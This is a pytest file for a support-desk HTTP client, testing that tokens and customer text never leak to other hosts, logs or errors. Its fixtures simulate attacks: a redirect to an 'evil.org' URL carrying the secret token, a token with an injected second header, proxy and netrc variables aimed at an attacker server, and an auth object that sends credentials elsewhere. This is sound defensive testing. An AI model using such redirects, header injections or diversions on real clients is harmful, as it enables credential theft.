"""Trying to make credentials or customer text appear where they must not: other hosts, logs, errors, reprs."""

from __future__ import annotations

import io
import logging
import socket

import httpx
import pytest
from hypothesis import given
from hypothesis import strategies as st

from supportctl.errors import AuthError, SupportctlError
from supportctl.wire import Intent, Transport
from supportctl.wire.auth import StaticToken, basic, bearer, zendesk_api_token

from .servers import CUSTOMER, SECRET, FakeClock, assert_silent, cut_off, everything_said, hang_up, reply, reset

FORBIDDEN = (SECRET, CUSTOMER, "Authorization: B", "czNjcjN0")


def signed(url: str, clock: FakeClock, **options: object) -> Transport:
    return Transport(url, auth=bearer(SECRET), clock=clock, max_attempts=2, **options)  # type: ignore[arg-type]


def test_the_own_host_does_get_them(serve, clock):
    own = serve(reply(200, {}))
    signed(own.url, clock).request("GET", "/x")
    assert own.seen[0].headers["authorization"] == f"Bearer {SECRET}"


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
def test_api_redirects_are_not_followed(serve, clock, status):
    evil = serve(reply(200, {}))
    own = serve(reply(status, headers={"Location": f"{evil.url}/take"}))
    for intent in Intent:
        with pytest.raises(SupportctlError, match="redirect"):
            signed(own.url, clock).request("POST", "/x", json={}, intent=intent)
    assert not evil.seen


def test_links_the_server_gives_are_pinned(serve, clock):
    evil = serve(reply(200, {}))
    own = serve(reply(200, {"links": {"next": f"{evil.url}/api/v2/tickets?page=2"}}))
    wire = signed(own.url, clock)
    following = wire.request("GET", "/x").json()["links"]["next"]
    with pytest.raises(SupportctlError, match="not a host of this profile"):
        wire.request("GET", following)
    same_port = f"http://localhost:{own.port}/x"
    with pytest.raises(SupportctlError, match="not a host of this profile"):
        wire.request("GET", same_port)
    assert not evil.seen


def test_attachments_elsewhere_come_without_credentials(serve, clock):
    content = serve(reply(200, b"data", {"Content-Type": "image/png", "Set-Cookie": "session=abc"}))
    own = serve(reply(302, headers={"Location": f"{content.url}/signed?sig=1", "Set-Cookie": f"session={SECRET}"}))
    wire = signed(own.url, clock, attachment_hosts=[f"127.0.0.1:{content.port}"])
    into = io.BytesIO()
    assert wire.download(f"{own.url}/attachments/token/abc/?name=x.png", into, max_bytes=100) == 4
    assert wire.download(f"{content.url}/direct", into, max_bytes=100) == 4
    assert own.seen[0].headers["authorization"] == f"Bearer {SECRET}"
    assert len(content.seen) == 2
    assert_silent([content.header_values()], SECRET, "authorization", "cookie")


def test_attachments_on_unlisted_hosts_are_not_visited(serve, clock):
    evil = serve(reply(200, b"data"))
    own = serve(reply(302, headers={"Location": evil.url}))
    wire = signed(own.url, clock)
    for url in (evil.url, f"{own.url}/a", f"//127.0.0.1:{evil.port}/x"):
        with pytest.raises(SupportctlError, match="not on the profile's list"):
            wire.download(url, io.BytesIO(), max_bytes=100)
    assert not evil.seen


def test_a_detour_over_another_host_takes_the_credentials_away(serve, clock):
    """Otherwise a foreign host could choose what we ask our own with our credentials."""
    own = serve(reply(302, headers={"Location": "PLACEHOLDER"}), reply(200, b"data"))
    other = serve(reply(302, headers={"Location": f"{own.url}/api/v2/users.json"}))
    own.script[0] = reply(302, headers={"Location": other.url})
    wire = signed(own.url, clock, attachment_hosts=[f"127.0.0.1:{other.port}"])
    wire.download(f"{own.url}/a", io.BytesIO(), max_bytes=100)
    assert "authorization" in own.seen[0].headers
    assert "authorization" not in own.seen[1].headers


def test_no_environment_variable_diverts_requests(serve, clock, monkeypatch, tmp_path):
    evil = serve(reply(200, {}))
    own = serve(reply(200, {"fine": True}))
    netrc = tmp_path / "netrc"
    netrc.write_text("machine 127.0.0.1 login evil password other\n")
    netrc.chmod(0o600)
    for name in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy"):
        monkeypatch.setenv(name, evil.url)
    monkeypatch.setenv("NETRC", str(netrc))
    monkeypatch.delenv("NO_PROXY", raising=False)
    monkeypatch.setenv("ZENPY_FORCE_NETLOC", f"127.0.0.1:{evil.port}")
    assert signed(own.url, clock).request("GET", "/x").json() == {"fine": True}
    assert own.seen[0].headers["authorization"] == f"Bearer {SECRET}"
    assert not evil.seen


def test_a_proxy_for_https_sees_only_where_not_what(serve, clock, monkeypatch):
    proxy = serve(reply(403, b"no"))
    monkeypatch.setenv("HTTPS_PROXY", proxy.url)
    with pytest.raises(SupportctlError) as caught:
        signed("https://acme.example", clock).request("GET", "/x", params={"query": CUSTOMER})
    assert {seen.method for seen in proxy.seen} == {"CONNECT"}
    assert_silent([proxy.header_values(), everything_said(caught.value)], *FORBIDDEN)


def test_cookies_are_neither_kept_nor_sent(serve, clock):
    own = serve(reply(200, {}, {"Set-Cookie": "glide_session=abc; Path=/"}))
    wire = signed(own.url, clock)
    wire.request("GET", "/x")
    wire.request("GET", "/x")
    assert "cookie" not in own.seen[1].headers


ENDS = {
    "reset": reset,
    "hang up": hang_up,
    "cut off": cut_off(f'{{"subject": "{CUSTOMER}'.encode()),
    "html": reply(200, f"<html>{CUSTOMER}</html>".encode(), {"Content-Type": "text/html"}),
    "login": reply(200, f"<html><input type=password>{CUSTOMER}".encode(), {"Content-Type": "text/html"}),
    "redirect": reply(302, headers={"Location": f"https://evil.org/?q={CUSTOMER.replace(' ', '+')}&t={SECRET}"}),
    "401": reply(401, {"error": CUSTOMER, "echo": SECRET}),
    "403": reply(403, {"error": CUSTOMER}),
    "404": reply(404, CUSTOMER.encode()),
    "409": reply(409, {"error": CUSTOMER}),
    "422": reply(422, {"error": CUSTOMER}, {"X-Request-Id": CUSTOMER}),
    "429": reply(429, {"error": CUSTOMER}, {"Retry-After": CUSTOMER}),
    "500": reply(500, {"error": CUSTOMER}),
    "not json": reply(200, CUSTOMER.encode(), {"Content-Type": "text/plain"}),
    "not http": lambda connection, _: connection.sendall(f"{CUSTOMER}\r\n\r\n".encode()),
    "bad gzip": reply(200, CUSTOMER.encode(), {"Content-Encoding": "gzip"}),
}


@pytest.mark.parametrize("end", ENDS)
@pytest.mark.parametrize("intent", list(Intent))
def test_no_error_says_what_must_not_be_said(serve, clock, caplog, end, intent):
    lines: list[str] = []
    own = serve(ENDS[end])
    wire = signed(own.url, clock, debug=lines.append)
    with caplog.at_level(logging.DEBUG), pytest.raises(SupportctlError) as caught:
        wire.request("POST", "/api/v2/search.json", params={"query": CUSTOMER}, json={"b": CUSTOMER}, intent=intent)
    said = [everything_said(caught.value), *lines, caplog.text, repr(wire), repr(vars(wire.stats))]
    assert_silent(said, *FORBIDDEN, CUSTOMER.replace(" ", "+"), CUSTOMER.replace(" ", "%20"))
    assert lines
    assert caught.value.hint


def test_debug_lines_name_parameters_not_values(serve, clock, caplog):
    lines: list[str] = []
    own = serve(reply(200, {}, {"X-Zendesk-Request-Id": "req-42"}))
    with caplog.at_level(logging.DEBUG):
        signed(own.url, clock, debug=lines.append).request(
            "GET", "/api/v2/users/jo@acme.example/tickets/7.json", params={"query": CUSTOMER, "page[size]": 100}
        )
    assert_silent([*lines, caplog.text], *FORBIDDEN, "jo@acme")
    assert len(lines) == 1
    for part in ("GET", "page[size]=100", "query=…", "/tickets/7.json", "200", "req-42"):
        assert part in lines[0]


def test_auth_objects_hide_what_they_hold():
    for auth in (
        basic("jo", SECRET),
        bearer(SECRET),
        zendesk_api_token("jo@acme.example", SECRET),
        StaticToken(SECRET),
    ):
        assert_silent([repr(auth), str(auth), f"{auth}"], SECRET)
    wire = Transport("https://acme.example", auth=bearer(SECRET))
    assert_silent([repr(wire), str(wire)], SECRET)


@given(st.text(max_size=30).filter(lambda text: not (text.isascii() and text.isprintable() and " " not in text)))
def test_tokens_no_header_can_hold_are_not_quoted(text):
    with pytest.raises(AuthError) as caught:
        bearer(SECRET + text)
    assert_silent([everything_said(caught.value)], SECRET)


@pytest.mark.parametrize("bad", [f"{SECRET}\n", f"{SECRET}\r\nX-Evil: 1", f"{SECRET}\0", f"{SECRET}é", f"{SECRET} x"])
def test_line_breaks_in_tokens(bad):
    with pytest.raises(AuthError) as caught:
        bearer(bad)
    assert_silent([everything_said(caught.value)], SECRET)


def test_a_header_that_cannot_be_sent_is_not_quoted(serve, clock):
    own = serve(reply(200, {}))
    for value in (f"{SECRET}\nx", f"{SECRET}é\u2028"):
        with pytest.raises(SupportctlError) as caught:
            signed(own.url, clock).request("GET", "/x", headers={"X-Thing": value})
        assert_silent([everything_said(caught.value)], SECRET)
    assert not own.seen


def test_connection_errors_do_not_quote_the_address(clock):
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        url = f"http://127.0.0.1:{free.getsockname()[1]}"
    with pytest.raises(SupportctlError) as caught:
        signed(url, clock).request("GET", "/x", params={"query": CUSTOMER})
    assert_silent([everything_said(caught.value)], *FORBIDDEN, "query=")


def test_every_exception_of_the_layers_below_is_silenced(clock):
    kinds = [
        httpx.ConnectError, httpx.ConnectTimeout, httpx.ReadError, httpx.ReadTimeout, httpx.WriteError,
        httpx.WriteTimeout, httpx.PoolTimeout, httpx.RemoteProtocolError, httpx.LocalProtocolError, httpx.ProxyError,
        httpx.UnsupportedProtocol, httpx.DecodingError, httpx.TooManyRedirects, httpx.CloseError,
    ]  # fmt: skip
    for kind in kinds:

        def fail(request: httpx.Request, kind: type[httpx.HTTPError] = kind) -> httpx.Response:
            raise kind(f"{request.url} {request.headers} {CUSTOMER}")

        for intent in Intent:
            wire = signed("https://acme.example", clock, transport=httpx.MockTransport(fail))
            with pytest.raises(SupportctlError) as caught:
                wire.request("POST", "/x", params={"query": CUSTOMER}, json={"x": CUSTOMER}, intent=intent)
            assert_silent([everything_said(caught.value)], *FORBIDDEN)
            assert caught.value.__cause__ is None
            assert caught.value.__context__ is None


def test_the_last_look_stops_an_auth_object_that_wanders(serve, clock):
    """Even an auth object that sends its own requests cannot carry credentials elsewhere."""
    evil = serve(reply(200, {}))
    own = serve(reply(200, {}))

    class Wandering(httpx.Auth):
        def auth_flow(self, request):
            yield httpx.Request("GET", evil.url, headers={"Authorization": f"Bearer {SECRET}"})
            yield request

    with pytest.raises(SupportctlError, match="refused to send credentials"):
        Transport(own.url, auth=Wandering(), clock=clock).request("GET", "/x")
    assert not evil.seen
